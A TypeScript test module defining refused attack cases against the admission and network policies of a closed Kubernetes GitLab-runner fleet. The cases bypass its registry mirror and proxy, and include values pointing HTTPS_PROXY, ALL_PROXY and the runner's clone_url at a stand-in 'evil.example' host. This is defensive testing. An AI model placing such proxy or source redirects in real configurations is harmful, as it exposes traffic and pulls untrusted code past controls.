import { renderConfigToml } from '../../../lib/config/config-toml';
import type { AdmissionAttack, Attack, Principal } from '../attack';
import { corpusFleet } from '../fleets';
import { jobPod } from '../job-pod';
import { managerPod } from '../manager-pod';
import { containerOf, type Pod, withContainer } from '../objects';
import { creating } from '../request';
import { manager, REPLICA_SETS, VISITOR } from '../users';

/** Ways out of a closed network: past its proxy, past its mirrors, and to other sources than those it names. */

const FLEET = corpusFleet('closed');
const NAMESPACE = FLEET.names.namespace;
const JOB = jobPod(FLEET, 'docker', { credentials: true });
const DIND_JOB = jobPod(FLEET, 'dind', { credentials: true });
const MANAGER = managerPod(FLEET, 'docker');
const EVIL = 'http://evil.example:3128';

const refused = (
  row: number,
  principal: Principal,
  title: string,
  policy: string,
  rule: string,
  request: AdmissionAttack['request'],
): AdmissionAttack => ({
  layer: 'admission',
  fleet: 'closed',
  row,
  principal,
  title,
  policy,
  rule,
  request,
});

const byToken = (title: string, rule: string, pod: Pod, runner = 'docker'): Attack =>
  refused(29, 'M', title, 'job-pods', rule, creating(manager('closed', runner), 'pods', pod));

/** A container of a pod with its image by the name that it has in the registry itself. */
const past = (pod: Pod, container: string, mirror: string, registry: string): Pod =>
  withContainer(pod, container, {
    image: containerOf(pod, container).image.replace(`mirror.example.com/${mirror}/`, `${registry}/`),
  });

const byDeployment = (title: string, rule: string, pod: Pod): Attack =>
  refused(
    16,
    'U',
    `a manager of a closed network ${title}`,
    'manager-pods',
    rule,
    creating(REPLICA_SETS, 'pods', pod),
  );

const variables = containerOf(MANAGER, 'manager').env ?? [];
const isCalled = (name: string) => (variable: object) => 'name' in variable && variable.name === name;
const withVariables = (env: readonly object[]): Pod => withContainer(MANAGER, 'manager', { env });
const withValue = (name: string, value: string): Pod =>
  withVariables(variables.map((variable) => (isCalled(name)(variable) ? { name, value } : variable)));

const CONFIG = renderConfigToml(FLEET.runner('docker'));

/** The config of a runner in which something is written otherwise. */
const byEditor = (title: string, from: string | RegExp, to: string): Attack => {
  const text = CONFIG.replace(from, to);
  if (text === CONFIG) {
    throw new TypeError(`config.toml has no ${from}`);
  }
  return refused(
    9,
    'U',
    `the config of a closed network ${title}`,
    'configs',
    'config-content',
    creating(VISITOR, 'configmaps', {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'docker-config', namespace: NAMESPACE },
      data: { 'config.toml': text },
    }),
  );
};

/** Rows 9, 16, 29 and 30. */
export const WAYS_OUT: readonly Attack[] = [
  byToken('a helper past the mirror', 'job-images', past(JOB, 'helper', 'gitlab', 'registry.gitlab.com')),
  byToken(
    'an init container past the mirror',
    'job-images',
    past(JOB, 'init-permissions', 'gitlab', 'registry.gitlab.com'),
  ),
  byToken('an image past the mirror', 'job-images', past(JOB, 'build', 'hub', 'docker.io')),
  byToken(
    'an image of the mirror beside the registry that it stands for',
    'job-images',
    past(JOB, 'build', 'hub', 'mirror.example.com/other'),
  ),
  byToken(
    'a Docker daemon past the mirror',
    'job-daemon',
    past(DIND_JOB, 'docker', 'hub', 'docker.io'),
    'dind',
  ),
  byDeployment(
    'past its mirror',
    'manager-container',
    past(MANAGER, 'manager', 'gitlab', 'registry.gitlab.com'),
  ),
  byDeployment('with another proxy', 'manager-secrets', withValue('HTTPS_PROXY', EVIL)),
  byDeployment('with another proxy in small letters', 'manager-secrets', withValue('https_proxy', EVIL)),
  byDeployment('that reaches all without its proxy', 'manager-secrets', withValue('NO_PROXY', '*')),
  byDeployment(
    'without its proxy',
    'manager-secrets',
    withVariables(variables.filter((variable) => !isCalled('HTTPS_PROXY')(variable))),
  ),
  byDeployment(
    'with its proxy twice',
    'manager-secrets',
    withVariables([...variables, { name: 'HTTPS_PROXY', value: EVIL }]),
  ),
  byDeployment(
    'with a proxy of every protocol',
    'manager-secrets',
    withVariables([...variables, { name: 'ALL_PROXY', value: EVIL }]),
  ),
  byEditor('has its sources elsewhere', /^clone_url = .*$/m, 'clone_url = "https://evil.example"'),
  byEditor('has its sources where its jobs are from', /^clone_url = .*\n/m, ''),
  byEditor('has another proxy', 'HTTPS_PROXY=http://proxy.example.com:3128', `HTTPS_PROXY=${EVIL}`),
  byEditor('has its helper past the mirror', 'mirror.example.com/gitlab/', 'registry.gitlab.com/'),
  // A job sets variables of its own: what holds is what it reaches.
  ...[
    ['a proxy of its own', 3128],
    ['no proxy at all', 443],
  ].map(
    ([title, port]): Attack => ({
      layer: 'network',
      fleet: 'closed',
      row: 30,
      principal: 'J',
      title: `${title}, by a job variable`,
      labels: JOB.metadata.labels,
      direction: 'sends',
      peer: { address: '140.82.121.4' },
      port: Number(port),
    }),
  ),
];
